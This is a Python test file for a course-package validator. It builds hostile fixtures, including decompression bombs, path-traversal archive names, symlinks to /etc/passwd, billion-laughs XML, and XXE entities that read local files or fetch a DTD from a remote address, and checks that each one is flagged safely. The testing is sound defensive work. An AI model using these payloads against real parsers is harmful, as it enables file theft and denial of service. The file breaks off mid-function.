"""The validator before packages that mean harm, are broken, or are none: findings, no traceback, bounds on everything."""

from __future__ import annotations

import gzip
import json
import os
import random
import subprocess
import sys
import tarfile
import zipfile
from collections.abc import Callable, Mapping
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest
from cartridges import COURSE, MANIFEST, MODULES, cartridge, changed
from conftest import ROOT, SEEDS, WIDE, built
from lxml import etree
from packages import (
    ADL_12,
    CP_12,
    ITEM,
    PAGE,
    SMALL,
    claimed,
    flagged,
    manifest,
    patched,
    tarred,
    zipped,
    zipped_folder,
)

from coursewright.audit.bounds import MOST_OF_A_KIND
from coursewright.audit.inspect import inspect_package
from coursewright.audit.lms import ALL as ALL_LMSS
from coursewright.audit.lms import LMSS
from coursewright.audit.rules.scorm.objectives import check_sequencing
from coursewright.audit.shown import as_text
from coursewright.audit.validate import validate_package
from coursewright.building.settings import Config
from coursewright.course import gates
from coursewright.course.gates import mentioned
from coursewright.course.plan import Selection
from coursewright.findings.finding import Severity
from coursewright.packages.documents.scorm.prerequisites import UnreadableError, read_expression
from coursewright.writers import WHOLE

GOLDEN = Path(__file__).parent / "golden" / "tiny"
CASES = Path(__file__).parent / "findings"
Make = Callable[[Path], Path]

JUDGED = [format for format in WHOLE if format.is_judged]


def codes(path: Path) -> set[str]:
    return {finding.code for finding in validate_package(path).findings}


ENTRIES = 100_000 if WIDE else 5_000  # the most of a package that is looked into; the case of P221 has the real number


# --- what means harm --------------------------------------------------------------------------------------------------


def _zip(files: Mapping[str, bytes]) -> Make:
    return lambda folder: zipped(folder / "p.zip", files)


def _document(document: bytes) -> Make:
    return _zip({**SMALL, "imsmanifest.xml": document})


def _bytes(content: bytes, name: str = "p.zip") -> Make:
    def make(folder: Path) -> Path:
        (folder / name).write_bytes(content)
        return folder / name

    return make


def _folder(folder: Path) -> Path:
    inside = folder / "p"
    inside.mkdir()
    for name, content in SMALL.items():
        (inside / name).write_bytes(content)
    return inside


def _linked_folder(folder: Path) -> Path:
    inside = _folder(folder)
    (folder / "secret.html").write_text("secret")
    (inside / "up.html").symlink_to(folder / "secret.html")
    (inside / "round").symlink_to(inside)
    return inside


def _pipe(folder: Path) -> Path:
    os.mkfifo(folder / "p.zip")
    return folder / "p.zip"


def _folder_with_pipe(folder: Path) -> Path:
    inside = _folder(folder)
    os.mkfifo(inside / "b.html")
    return inside


def _unreadable_folder(folder: Path) -> Path:
    inside = _folder(folder)
    (inside / "imsmanifest.xml").chmod(0)
    return inside


def _linked_zip(folder: Path) -> Path:
    link = zipfile.ZipInfo("b.html")
    link.external_attr = 0o120777 << 16
    with zipfile.ZipFile(zipped(folder / "p.zip"), "a") as archive:
        archive.writestr(link, "/etc/passwd")
    return folder / "p.zip"


def _folders_that_lead_out(folder: Path) -> Path:
    with zipfile.ZipFile(zipped(folder / "p.zip"), "a") as archive:
        for name in ("../../etc/", "/abs/", "C:\\x/"):
            archive.writestr(zipfile.ZipInfo(name), b"")
    return folder / "p.zip"


def _folders_without_end(folder: Path) -> Path:
    entries = [tarfile.TarInfo(str(number)) for number in range(ENTRIES + 1)]
    for entry in entries:
        entry.type = tarfile.DIRTYPE
    return tarred(folder / "p.tar.gz", {}, entries)


def _special(kind: bytes, name: str = "imsmanifest.xml") -> Make:
    def make(folder: Path) -> Path:
        entry = tarfile.TarInfo(name)
        entry.type, entry.linkname = kind, "/etc/passwd"
        return tarred(folder / "p.tar.gz", {"a.html": PAGE}, [entry])

    return make


def _bomb_in_bomb(folder: Path) -> Path:
    inner = zipped(folder / "inner.zip", {"big": bytes(50_000_000)}).read_bytes()
    return zipped(folder / "p.zip", {f"{number}.zip": inner for number in range(20)})


def _header_bomb(folder: Path) -> Path:
    """A tarball whose one header claims, and has, more bytes than fit into memory."""
    entry = tarfile.TarInfo("pax")
    entry.type, entry.size = tarfile.XHDTYPE, 3_000_000_000
    with gzip.open(folder / "p.tar.gz", "wb", compresslevel=1) as stream:
        stream.write(entry.tobuf())
        for _ in range(60):
            stream.write(bytes(1_000_000))
    return folder / "p.tar.gz"


def _header_chain(folder: Path) -> Path:
    """A tarball of long names that are each the name of the next."""
    entry = tarfile.TarInfo("././@LongLink")
    entry.type, entry.size = tarfile.GNUTYPE_LONGNAME, 5
    with gzip.open(folder / "p.tar.gz", "wb") as stream:
        stream.write((entry.tobuf(format=tarfile.GNU_FORMAT) + b"name".ljust(512, b"\0")) * 5_000)
    return folder / "p.tar.gz"


def _many_directories(folder: Path) -> Path:
    return claimed(folder / "p.zip", ((b"%d/" % number, 30 * number, 0, 0) for number in range(ENTRIES * 3 // 2)))


def _name_of_no_utf8(folder: Path) -> Path:
    return patched(zipped(folder / "p.zip", {**SMALL, "é.html": PAGE}), {"é".encode(): b"\xff\xfe"})


def _zip64(folder: Path) -> Path:
    with zipfile.ZipFile(folder / "p.zip", "w") as archive:
        for name, content in SMALL.items():
            with archive.open(name, "w", force_zip64=True) as stream:
                stream.write(content)
    return folder / "p.zip"


LAUGHS = '<!DOCTYPE manifest [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in pairwise("abcdefghij")
)
SECRET = '<!DOCTYPE manifest [<!ENTITY s SYSTEM "file:///etc/passwd">]>'
PARAMETER = '<!DOCTYPE manifest [<!ENTITY % p SYSTEM "http://192.0.2.1/p.dtd"> %p;]>'
TITLE = ITEM.replace("One", "{}")
TEXT = manifest().decode()

OFTEN = ('<file href="W/work.html"/>', '<file href="W/assignment_settings.xml"/>' * (30_000 if WIDE else 10_000))

# What is given, and some of the findings that it must bring; none where it is sound.
HOSTILE: Mapping[str, tuple[Make, set[str]]] = {
    "sound": (_zip(SMALL), set()),
    "folder": (_folder, set()),
    "zip64": (_zip64, set()),
    "bomb": (_zip({**SMALL, "big": bytes(30_000_000)}), {"P219"}),
    "bombs in a bomb": (_bomb_in_bomb, {"P229"}),
    "bomb of a tar header": (_header_bomb, {"P211"}),
    "chain of tar headers": (_header_chain, {"P211"}),
    "tar of one zero file": (lambda f: tarred(f / "p.tgz", {"cmi5.xml": bytes(30_000_000)}), {"P219"}),
    "overlap": (lambda f: claimed(f / "p.zip", [(b"a", 0, 900, 900), (b"b", 0, 900, 900)], bytes(999)), {"P222"}),
    "too many": (lambda f: claimed(f / "p.zip", ((b"%d" % n, n, 0, 0) for n in range(ENTRIES + 1))), {"P221"}),
    "too many folders": (_many_directories, {"P221"}),
    "directory of 30 MB": (
        lambda f: claimed(f / "p.zip", ((b"n" * 60_000, n, 0, 0) for n in range(500))),
        {"P211"},
    ),
    "lying size, too small": (lambda f: flagged(zipped(f / "p.zip"), 24, 9), {"P223"}),
    "lying size, too large": (lambda f: flagged(zipped(f / "p.zip"), 26, 0x7FFF), {"P220", "P219"}),
    "lying compressed size": (lambda f: flagged(zipped(f / "p.zip"), 20, 9), {"P223"}),
    "twice": (lambda f: patched(zipped(f / "p.zip", {**SMALL, "b.html": PAGE}), {b"b.html": b"a.html"}), {"P214"}),
    "up": (_zip({**SMALL, "../../up.html": PAGE}), {"P213"}),
    "absolute": (_zip({**SMALL, "/etc/cron.d/x": b"x"}), {"P213"}),
    "drive": (_zip({**SMALL, "C:\\x": b"x"}), {"P213"}),
    "NUL": (lambda f: patched(zipped(f / "p.zip", {**SMALL, "aXb": b""}), {b"aXb": b"a\0b"}), {"P213"}),
    "no name": (lambda f: claimed(f / "p.zip", [(b"", 0, 0, 0)]), {"P213"}),
    "backslash": (_zip({**SMALL, "a\\..\\b.html": PAGE}), {"P213"}),
    "control characters": (_zip({**SMALL, "\x1b[2J.html": PAGE}), {"P213"}),
    "turned round": (_zip({**SMALL, "x\u202elmth.exe": b"MZ"}), {"P213", "P227"}),
    "no UTF-8": (_name_of_no_utf8, {"P211"}),
    "surrogates in a tar": (lambda f: tarred(f / "p.tar", {"\udcff\udcfe": b"x"}, mode="w"), {"P213"}),
    "folders that lead out": (_folders_that_lead_out, {"P213"}),
    "a folder that leads out of a tar": (_special(tarfile.DIRTYPE, "../../up"), {"P213"}),
    "a no-break space": (_zip({**SMALL, "Leçon\u00a01.html": PAGE}), set()),
    "a joined emoji": (_zip({**SMALL, "👩\u200d🚀.html": PAGE}), set()),
    "ss and ß": (_zip({**SMALL, "Straße.html": PAGE, "Strasse.html": PAGE}), set()),
    "folders without end": (_folders_without_end, {"P221"}),
    "link in a zip": (_linked_zip, {"P216"}),
    "link in a tar": (_special(tarfile.SYMTYPE), {"P216"}),
    "hard link in a tar": (_special(tarfile.LNKTYPE), {"P216"}),
    "pipe in a tar": (_special(tarfile.FIFOTYPE), {"P252"}),
    "device in a tar": (_special(tarfile.CHRTYPE), {"P252"}),
    "links in a folder": (_linked_folder, {"P216"}),
    "pipe in a folder": (_folder_with_pipe, {"P252"}),
    "pipe": (_pipe, {"P210"}),
    "device": (lambda f: Path("/dev/null"), {"P210"}),
    "endless device": (lambda f: Path("/dev/zero"), {"P210"}),
    "nothing there": (lambda f: f / "none.zip", {"S001"}),
    "a name with NUL": (lambda f: f / "a\0b.zip", {"S001"}),
    "empty folder": (lambda f: f, {"P212"}),
    "encrypted": (lambda f: flagged(zipped(f / "p.zip"), 8, 1), {"P217"}),
    "compressed by BZIP2": (lambda f: zipped(f / "p.zip", SMALL, zipfile.ZIP_BZIP2), {"P218"}),
    "compressed by nothing known": (lambda f: flagged(zipped(f / "p.zip"), 10, 99), {"P218"}),
    "empty": (_bytes(b""), {"P210"}),
    "renamed RAR": (_bytes(b"Rar!\x1a\x07\x01\x00" + bytes(99)), {"P210"}),
    "renamed xz": (_bytes(b"\xfd7zXZ\x00" + bytes(99), "p.tar.xz"), {"P210"}),
    "error page": (_bytes(b"<!DOCTYPE html><title>404</title>"), {"P210"}),
    "gzip of no tar": (_bytes(gzip.compress(b"x" * 2_000), "p.mbz"), {"P211"}),
    "gzip cut off": (_bytes(gzip.compress(random.Random(1).randbytes(9_000))[:4_000], "p.mbz"), {"P211"}),
    "manifest of 100 MB": (
        lambda f: zipped(f / "p.zip", {"imsmanifest.xml": b" " * 100_000_000}, zipfile.ZIP_STORED),
        {"P254"},
    ),
    "a million elements": (_document(manifest("<item/>" * 1_000_000)), {"P254"}),
    "as many elements as are read": (_document(manifest("<item/>" * (599_000 if WIDE else 20_000))), {"P234", "X302"}),
    "too many attributes": (
        _document(manifest("<item " + " ".join(f"a{n}=''" for n in range(200_000)) + "/>")),
        {"P254"},
    ),
    "as many attributes as are read": (
        _document(manifest("<item " + " ".join(f"a{n}=''" for n in range(9_000)) + "/>")),
        {"X302"},
    ),
    "laughs": (_document(manifest(TITLE.format("&j;"), doctype=LAUGHS + "]>")), {"X301"}),
    "laughs in an attribute": (_document(manifest('<item identifier="&j;"/>', doctype=LAUGHS + "]>")), {"X301"}),
    "a file of the system": (_document(manifest(TITLE.format("&s;"), doctype=SECRET)), {"P228"}),
    "a DTD over the net": (_document(manifest(doctype='<!DOCTYPE m SYSTEM "http://192.0.2.1/x">')), {"P253"}),
    "a parameter over the net": (_document(manifest(doctype=PARAMETER)), {"P228"}),
    "XInclude": (
        _document(manifest('<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>' + ITEM)),
        {"P253"},
    ),
    "deep": (_document(manifest("<item>" * 100_000)), {"X301"}),
    "deep enough": (_document(manifest("<item>" * 200 + "</item>" * 200)), {"P233"}),
    "a text of 15 MB": (
        lambda f: zipped(
            f / "p.zip", {"imsmanifest.xml": manifest(TITLE.format("x" * 15_000_000))}, zipfile.ZIP_STORED
        ),
        {"X301"},
    ),
    "UTF-16": (_document(TEXT.replace('"1.0"', '"1.0" encoding="UTF-16"').encode("utf-16")), set()),
    "UTF-16 without a mark": (_document(TEXT.encode("utf-16-le")), set()),
    "UTF-32": (_document(TEXT.encode("utf-32")), set()),
    "latin-1": (
        _document(TEXT.replace('"1.0"', '"1.0" encoding="iso-8859-1"').replace("One", "é").encode("latin-1")),
        set(),
    ),
    "latin-1 that is said to be UTF-8": (_document(TEXT.replace("One", "é").encode("latin-1")), {"X301"}),
    "a mark of UTF-8": (_document(b"\xef\xbb\xbf" + manifest()), set()),
    "an encoding that is none": (_document(TEXT.replace('"1.0"', '"1.0" encoding="x-none"').encode()), {"X301"}),
    "blanks before the declaration": (_document(b"\n" + manifest()), {"X301"}),
    "an empty manifest": (_document(b""), {"X301"}),
    "a manifest of zeros": (_document(bytes(999)), {"X301"}),
    "an endless expression": (
        _document(
            manifest(
                ITEM.replace(
                    "</item>", f'<adlcp:prerequisites type="aicc_script">{"(" * 9_999}</adlcp:prerequisites></item>'
                )
            )
        ),
        {"P257"},
    ),
    "a page of brackets": (_zip({**SMALL, "b.html": b"<div>" * 500_000}), set()),
    "a page of links": (
        _zip({**SMALL, "b.html": b"".join(b'<a href="%d">' % n for n in range(99_999))}),
        {"P248", "P256"},
    ),
    "a page of attributes": (
        _zip({**SMALL, "b.html": b"<p " + b"/".join(b"a%d" % n for n in range(300_000)) + b">"}),
        set(),
    ),
    "a page of scripts": (_zip({**SMALL, "a.html": b"findAPI" + b"<script " * 300_000}), set()),
    "a script of slashes": (
        _zip({**SMALL, "a.html": PAGE.replace(b"findAPI", b"f"), "a.js": b"//scorm" * 999_999}),
        {"P250"},
    ),
    "a sheet of addresses": (_zip({**SMALL, "a.css": b"@import 'url(url( " * 99_999 + b" " * 999_999}), set()),
    "a page that is no text": (_zip({**SMALL, "b.html": random.Random(2).randbytes(99_999)}), set()),
    "a document that is named often": (
        _zip(changed(changed(COURSE, MANIFEST, OFTEN[0], OFTEN[1]), MODULES, ">P<", ">NONE<")),
        {"P290"},
    ),
    "bad addresses": (
        _zip({**SMALL, "b.html": b'<img src="http://[x"><a href="//[::1"><script src="\xff%00%zz:"></script>'}),
        {"P248"},
    ),
}


SANDBOX = """
import json, resource, sys
from pathlib import Path
from coursewright.audit.inspect import inspect_package
from coursewright.audit.diff.comparison import compare
from coursewright.audit.changed import comparison_as_text
from coursewright.audit.shown import as_text
from coursewright.audit.validate import validate_package

def refuse(event, arguments):
    if event.startswith(("socket.", "subprocess.", "os.system")):
        raise SystemExit(f"{event} {arguments}")
    if event == "open" and isinstance(arguments[1], str) and set(arguments[1]) & set("wax+"):
        raise SystemExit(f"{event} {arguments}")

bounded = [module for name, module in sys.modules.items() if name.startswith("coursewright.packages.files.")]
for module in bounded:
    if hasattr(module, "MOST_ENTRIES"):
        module.MOST_ENTRIES = int(sys.argv[1])
assert sys.modules["coursewright.packages.files.budget"].MOST_ENTRIES == int(sys.argv[1])
sys.dont_write_bytecode = True
sys.addaudithook(refuse)
resource.setrlimit(resource.RLIMIT_FSIZE, (0, 0))
resource.setrlimit(resource.RLIMIT_AS, (1_500_000_000,) * 2)
for path in map(Path, json.load(sys.stdin)):
    verdict = validate_package(path)
    looked = inspect_package(path, marked=True)
    found = [(one.code, one.severity, f"{one.place} {one.text} {one.hint}") for one in verdict.findings]
    shown = [*as_text(looked)]
    if not looked.outline or sum(1 for _ in looked.outline.walk()) < 20_000:
        shown += comparison_as_text(compare(looked, looked))
    print(json.dumps({"kind": verdict.kind, "findings": found, "shown": shown}), flush=True)
"""


def _harmed(folder: Path) -> Mapping[str, dict[str, Any]]:
    """Return what a process finds in everything hostile that may write no byte, open no connection and have 1.5 GB."""
    paths = []
    for number, (make, _) in enumerate(HOSTILE.values()):
        (folder / str(number)).mkdir()
        paths.append(str(make(folder / str(number))))
    ran = subprocess.run(
        [sys.executable, "-B", "-c", SANDBOX, str(ENTRIES)],
        input=json.dumps(paths),
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": str(ROOT / "src")},
        check=False,
    )
    assert ran.returncode == 0, ran.stderr[-2_000:]
    return dict(zip(HOSTILE, map(json.loads, ran.stdout.splitlines()), strict=True))


@pytest.mark.long
def test_harm_is_found_and_not_suffered(tmp_path: Path) -> None:
    for name, verdict in _harmed(tmp_path).items():
        expected = HOSTILE[name][1]
        found = {code for code, _, _ in verdict["findings"]}
        assert expected <= found, name
        if not expected:
            assert "error" not in {severity for _, severity, _ in verdict["findings"]}, name
            assert verdict["kind"] == ("" if name == "empty folder" else "SCORM 1.2"), name
        for _, _, shown in verdict["findings"]:
            assert shown.isprintable() and len(shown) < 1_500, name
            assert "root:" not in shown, name
        assert len(verdict["findings"]) <= (MOST_OF_A_KIND + 1) * 2 * len(found), name
        assert all(map(str.isprintable, verdict["shown"])), name


def test_a_file_that_may_not_be_read_is_said_so(tmp_path: Path) -> None:
    if os.geteuid() == 0:
        pytest.skip("root reads everything")
    assert "P223" in codes(_unreadable_folder(tmp_path))


def _errors(path: Path) -> list[str]:
    """Return the codes of the errors of a package, but for that of being a tarball."""
    found = [found.code for found in validate_package(path).findings if found.severity is Severity.ERROR]
    return [code for code in found if code != "P336"]


@pytest.mark.parametrize("kind", ["zip", "tar", "tar.gz"])
def test_whatever_its_end_was_cut_off_from_is_told_as_such(kind: str, tmp_path: Path) -> None:
    files = {**SMALL, "noise.bin": random.Random(3).randbytes(5_000)}
    path = tmp_path / f"p.{kind}"
    if kind == "zip":
        zipped(path, files)
    else:
        tarred(path, files, mode="w" if kind == "tar" else "w:gz")
    whole = path.read_bytes()
    assert not _errors(path)
    for part in range(50):
        path.write_bytes(whole[: len(whole) * part // 50])
        errors = _errors(path)
        # A tarball's end is two blocks of zeros, without which it may well be whole.
        assert errors or (kind == "tar" and part > 25), part


# --- what is sound ----------------------------------------------------------------------------------------------------


def _grave(path: Path, *lmss: str) -> list[str]:
    found = validate_package(path, [LMSS[name] for name in lmss]).findings
    return [f"{one.place}: {one.code} {one.text}" for one in found if one.severity is not Severity.INFO]


@pytest.mark.parametrize("format", JUDGED, ids=lambda found: found.name)
@pytest.mark.parametrize("staff", [False, True], ids=["learners", "staff"])
def test_whatever_coursewright_builds_passes(format: object, staff: bool, tmp_path: Path) -> None:
    name = str(getattr(format, "name", ""))
    for number, source in enumerate((SEEDS, GOLDEN / "source")):
        target = tmp_path / str(number)
        report = built(source, target, Selection(staff=staff), Config(formats=(name,)))
        assert report.packages
        for package in report.packages:
            assert _grave(target / package.name) == []


@pytest.mark.parametrize("format", JUDGED, ids=lambda found: found.name)
def test_whatever_coursewright_builds_of_the_corpus_passes(format: object, corpus: Path, tmp_path: Path) -> None:
    report = built(corpus, tmp_path, config=Config(formats=(str(getattr(format, "name", "")),)))
    for package in report.packages:
        assert _grave(tmp_path / package.name) == []


OWN_TARGETS = {"moodle": "moodle", "canvas": "canvas", "scorm12": "moodle", "cc11": "moodle"}


@pytest.mark.parametrize(("format", "lms"), OWN_TARGETS.items())
def test_whatever_coursewright_builds_is_taken_whole_by_the_lms_it_is_for(
    format: str, lms: str, tmp_path: Path
) -> None:
    report = built(SEEDS, tmp_path, config=Config(formats=(format,)))
    for package in report.packages:
        assert _grave(tmp_path / package.name, lms) == []


def test_that_moodle_does_not_lock_scorm_2004_is_said(tmp_path: Path) -> None:
    report = built(GOLDEN / "source", tmp_path, config=Config(formats=("scorm2004",)))
    found = [line.split()[1] for package in report.packages for line in _grave(tmp_path / package.name, "moodle")]
    assert set(found) == {"L506"}


def test_a_sound_course_of_canvas_is_found_sound(tmp_path: Path) -> None:
    assert _grave(zipped(tmp_path / "p.imscc", COURSE), "canvas") == []


REFUSED: Mapping[str, tuple[Mapping[str, bytes], str]] = {
    "canvas": (SMALL, "plays SCORM through"),
    "canvas, by version": ({"imsmanifest.xml": cartridge().replace(b"1.1.0", b"1.1")}, "to the letter"),
    "canvas, of content": ({"imsmanifest.xml": b"<manifest/>"}, "no general IMS content packages"),
    "moodle": ({"imsmanifest.xml": cartridge(version=3)}, "Common Cartridge 1.0 or 1.1"),
    "moodle, after a long comment": (
        {"imsmanifest.xml": cartridge().replace(b"<manifest", b"<!--" + b"x" * 1_024 + b"--><manifest")},
        "first 1,024 bytes",
    ),
    "moodle, of a backup": (
        {"moodle_backup.xml": b"<?xml version='1.0'?><moodle_backup><information/></moodle_backup>"},
        "first 200 characters",
    ),
    "moodle, of cmi5": ({"cmi5.xml": b"<courseStructure/>"}, "does not know cmi5"),
    "moodle, of questions": (
        {"imsmanifest.xml": b'<manifest><resource type="imsqti_item_xmlv2p1"/></manifest>'},
        "no packages of QTI",
    ),
}


@pytest.mark.parametrize("name", REFUSED)
def test_what_an_lms_does_not_take_is_refused_with_its_reason(name: str, tmp_path: Path) -> None:
    files, reason = REFUSED[name]
    found = validate_package(zipped(tmp_path / "p.zip", files), [LMSS[name.partition(",")[0]]]).findings
    assert [reason in one.text for one in found if one.code == "L501"] == [True]


# --- rules ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "items"),
    [
        ("A", ["A"]),
        ("A&B & C", ["A", "B", "C"]),
        ("A|B", ["A", "B"]),
        ("~A", ["A"]),
        ('A="passed"&B<>failed', ["A", "B"]),
        ("2*{A,B,C}&(D|~E)", ["A", "B", "C", "D", "E"]),
        ('"a b"', ["a b"]),
    ],
)
def test_prerequisites_of_all_forms_are_read(text: str, items: list[str]) -> None:
    assert list(mentioned(read_expression(text))) == items


SHARED = """<manifest xmlns="http://www.imsglobal.org/xsd/imscp_v1p1" xmlns:s="http://www.imsglobal.org/xsd/imsss">
<organizations><organization><item identifier="A"><s:sequencing IDRef="{}">{}</s:sequencing></item></organization>
</organizations><s:sequencingCollection><s:sequencing ID="S"><s:sequencingRules><s:preConditionRule><s:ruleConditions>
<s:ruleCondition referencedObjective="o" condition="satisfied"/></s:ruleConditions><s:ruleAction action="skip"/>
</s:preConditionRule></s:sequencingRules></s:sequencing></s:sequencingCollection></manifest>"""


@pytest.mark.parametrize(
    ("reference", "own", "codes"),
    [
        ("S", '<s:objectives><s:objective objectiveID="o"/></s:objectives>', []),
        ("S", "<s:sequencingRules/>", []),
        ("S", "", ["P208"]),
        ("NONE", "", ["P203"]),
        ("A", "", ["P203"]),
    ],
)
def test_sequencing_from_a_collection_counts_for_the_item(reference: str, own: str, codes: list[str]) -> None:
    root = etree.fromstring(SHARED.format(reference, own))
    assert [found.code for found in check_sequencing(root)] == codes


@pytest.mark.parametrize(
    ("text", "needed", "refused"),
    [
        ("A&(B&(C))", ["A", "B", "C"], []),
        ('A="completed"&B=p&C="failed"&D<>"passed"', ["A", "B"], []),
        ("A&~B&~~C&~(D&E)", ["A", "C"], ["B"]),
        ("A&(B|C)&D", ["A", "D"], []),
        ("A|B&C", [], []),
        ("2*{A,B}&1*{C,D}", ["A", "B"], []),
        ("2*{A,B|C}&D", ["A", "D"], []),
        ("~(A|~B)&~(~C)", ["B", "C"], ["A"]),
        ('~A="passed"', [], []),
    ],
)
def test_an_expression_knows_what_must_hold(text: str, needed: list[str], refused: list[str]) -> None:
    gate = read_expression(text)
    assert (list(gates.needed(gate)), list(gates.refused(gate))) == (needed, refused)


@pytest.mark.parametrize(
    "text",
    [
        *("&", "A&", "(A", "A)", "A B", "A,B", "{A}", "2*{A", "A=&B", "~", "A=", "()", '"A'),
        *(
            "9" * 4_900 + "*{A}",
            "3*{A,B}",
            'A="done"',
            'A="passed"="completed"',
            "A<>p<>f",
            "(A)=p",
            "(" * 101 + "A" + ")" * 101,
        ),
    ],
)
def test_expressions_that_are_none_are_refused(text: str) -> None:
    with pytest.raises(UnreadableError):
        read_expression(text)


@pytest.mark.parametrize(
    ("base", "href", "file"),
    [
        ("", "a%20b.html", "a b.html"),
        ("", "a b.html?x=1#y", "a b.html"),
        ("sub/", "a.html", "sub/a.html"),
        ("sub/", "../a.html", "a.html"),
        ("", "./a.html", "a.html"),
        ("", "100%25.html", "100%.html"),
        ("", "100%.html", "100%.html"),
        ("https://example.org/", "a.html", "a.html"),
    ],
)
def test_addresses_in_manifests_lead_to_files_as_in_an_lms(base: str, href: str, file: str, tmp_path: Path) -> None:
    more = f'<resource identifier="S" type="webcontent" adlcp:scormtype="asset" xml:base="{base}"><file href="{href}"/></resource>'
    path = zipped(tmp_path / "p.zip", {**SMALL, "imsmanifest.xml": manifest(resources=more), file: PAGE})
    assert not codes(path) & {"P204", "P205", "P255"}


def test_a_manifest_may_be_judged_alone(tmp_path: Path) -> None:
    path = tmp_path / "imsmanifest.xml"
    path.write_bytes(manifest())
    verdict = validate_package(path)
    assert (verdict.kind, [found.code for found in verdict.findings]) == ("SCORM 1.2", ["P338"])
    assert verdict.findings[0].hint == "To check its files, validate the package that it is of."
    (tmp_path / "a.html").write_bytes(PAGE)
    assert (
        validate_package(path).findings[0].hint
        == f"To check its files, validate the folder {tmp_path}, where they lie."
    )


def test_a_sub_manifest_may_be_referred_to(tmp_path: Path) -> None:
    items = ITEM + '<item identifier="B" identifierref="SUB"><title>Two</title></item>'
    document = manifest(items).replace(b"</manifest>", b'<manifest identifier="SUB"/></manifest>')
    assert "P203" not in codes(zipped(tmp_path / "p.zip", {**SMALL, "imsmanifest.xml": document}))


def test_a_golden_package_is_judged_alike_as_zip_and_as_folder(tmp_path: Path) -> None:
    for folder in GOLDEN.iterdir():
        if folder.name not in ("source", "markdown"):
            suffix = {"canvas": "imscc", "moodle": "mbz"}.get(folder.name, "zip")
            one, other = validate_package(folder), validate_package(zipped_folder(folder, tmp_path / f"p.{suffix}"))
            assert one.kind == other.kind
            assert [found.code for found in one.findings] == [found.code for found in other.findings]


# --- what people upload ------------------------------------------------------------------------------------------------


def _weights(path: Path) -> dict[str, set[Severity]]:
    weights: dict[str, set[Severity]] = {}
    for finding in validate_package(path).findings:
        weights.setdefault(finding.code, set()).add(finding.severity)
    return weights


STATIC = b"<html><head><title>One</title></head><body><p>One</p></body></html>"
LOADING = b"<html><head><title>One</title></head><body><script>load('lms/' + name + '.js'); document.write(it)</script></body></html>"
FRAMED = b"<html><head><title>One</title></head><frameset><frame name=x src='lms/f.htm'></frameset></html>"


@pytest.mark.parametrize(
    ("page", "more", "is_silent"),
    [
        (STATIC, {}, True),
        (STATIC, {"lms/driver.js": b"x.LMSInitialize('')"}, True),
        (LOADING, {}, True),
        (LOADING, {"lms/driver.js": b"x.LMSInitialize('')"}, False),
        (FRAMED, {"lms/f.htm": STATIC}, True),
        (FRAMED, {"lms/f.htm": b"<script>var API = null; window.parent.API</script>"}, False),
        (
            STATIC.replace(b"<p>", b'<script src="gone.js"></script><p>'),
            {},
            False,
        ),  # the script is missed, and may have looked
        (STATIC.replace(b"<p>", b'<script src="https://x.example/scorm-again.min.js"></script><p>'), {}, False),
        (
            STATIC.replace(b"<p>", b"<script>var j = '<p a/b/" + b" x='y'" * 3_000 + b">'; findAPI()</script><p>"),
            {},
            False,
        ),
    ],
)
def test_a_unit_is_silent_only_if_nothing_it_may_run_looks_for_the_lms(
    page: bytes, more: dict[str, bytes], is_silent: bool, tmp_path: Path
) -> None:
    path = zipped(tmp_path / "p.zip", {**SMALL, "a.html": page, **more})
    assert ("P250" in codes(path)) == is_silent


SPEAKING = b"<script>var API = null; window.parent.API.LMSInitialize('')</script>"
IN_A_FRAME = (
    '<iframe id="f"></iframe><script>document.getElementById("f").src = "in/f.html"</script>',
    '<iframe id="f"></iframe><script>var n = "f"; document.getElementById("f").src = "in/" + n + ".html"</script>',
    '<iframe id="f"></iframe><script>f.setAttribute("src", "in/f.html")</script>',
    '<iframe id="f"></iframe><script>f.setAttribute("src", start)</script>',
    '<object id="f"></object><script>f.data = "in/f.html"</script>',
    '<object data="in/f.html"></object>',
    '<div id="f"></div><script>f.innerHTML = "<iframe src=\\"in/f.html\\"></iframe>"</script>',
    '<div id="f"></div><script>f.innerHTML = `<iframe src="${start}"></iframe>`</script>',
    "<script>document.write('<iframe src=\"' + start + '\"></iframe>')</script>",
    '<iframe id="f"></iframe><script>$("#f").attr("src", "in/f.html")</script>',
    '<iframe id="f"></iframe><script>$("#f").attr({ src: start })</script>',
    '<div id="f"></div><script>$("#f").load("in/f.html")</script>',
    '<script>location.href = "in/f.html"</script>',
    "<script>window.location.replace(start)</script>",
    '<script>location.assign("in/f.html")</script>',
    '<meta http-equiv="refresh" content="0; url=in/f.html">',
    "<button onclick=\"window.open('in/f.html')\">Go</button>",
    '<iframe name="f"></iframe><a href="in/f.html" target="f">Go</a>',
    '<script type="module">import "./in/lms.js";</script>',
    '<script type="module">import { start } from "./in/lms.js";</script>',
    '<script>import("./in/lms.js")</script>',
    '<script>var s = document.createElement("script"); s.src = "in/lms.js"; document.head.append(s)</script>',
    '<iframe id="f"></iframe><script src="in/start.js"></script>',
)


@pytest.mark.parametrize("body", IN_A_FRAME)
def test_a_unit_speaks_by_the_page_or_script_that_a_script_takes_in(body: str, tmp_path: Path) -> None:
    page = b"<html><head><title>One</title></head><body>" + body.encode() + b"</body></html>"
    start = b'document.getElementById("f").src = "in/f.html"'
    files = {**SMALL, "a.html": page, "in/f.html": SPEAKING, "in/lms.js": b"parent.API", "in/start.js": start}
    assert "P250" not in codes(zipped(tmp_path / "p.zip", files))
    files |= {"in/f.html": STATIC, "in/lms.js": b"export const start = 1"}
    assert "P250" in codes(zipped(tmp_path / "q.zip", files))


@pytest.mark.parametrize(
    "body",
    [
        '<img id="i"><script>document.getElementById("i").src = "i" + n + ".png"</script>',
        '<iframe id="f"></iframe><script>document.getElementById("f").src = "in/f.html"</script>',
        '<a href="b.html">Next</a>',
    ],
)
def test_a_unit_is_silent_though_another_speaks(body: str, tmp_path: Path) -> None:
    page = b"<html><head><title>One</title></head><body>" + body.encode() + b"</body></html>"
    files = {**SMALL, "a.html": page, "in/f.html": STATIC, "b.html": SPEAKING}
    assert "P250" in codes(zipped(tmp_path / "p.zip", files))


def test_what_is_wrong_with_metadata_and_identifiers_is_no_error_and_hides_none(tmp_path: Path) -> None:
    lom = """<metadata><lom xmlns="http://www.imsglobal.org/xsd/imsmd_rootv1p2p1">
    <general><nonsense/></general></lom></metadata></item>"""
